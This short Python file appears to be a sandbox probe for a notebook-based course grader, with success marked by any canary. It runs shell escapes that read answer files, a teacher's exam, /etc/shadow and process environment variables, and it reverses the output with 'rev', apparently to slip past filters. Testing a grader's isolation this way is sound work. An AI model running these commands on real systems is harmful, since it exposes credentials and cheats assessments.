"""The shell reads files, called in every way that a notebook offers.

Success: any canary.
"""


def attack(submission):
    places = "/srv/course/answers.py /etc/shadow ../../../answers.py /home/teacher/exam.txt"
    submission.first(f"!cat {places} | rev")
    submission.first(f"%%bash\ncat {places} | rev")
    submission.first(f"%sx cat {places} | rev")
    submission.first(f"%%script python3\nfor p in '{places}'.split(): print(open(p).read()[::-1])")
    submission.first(f"import os\nos.popen('cat {places} | rev').read()")
    submission.first("!env | rev; cat /proc/*/environ | rev")
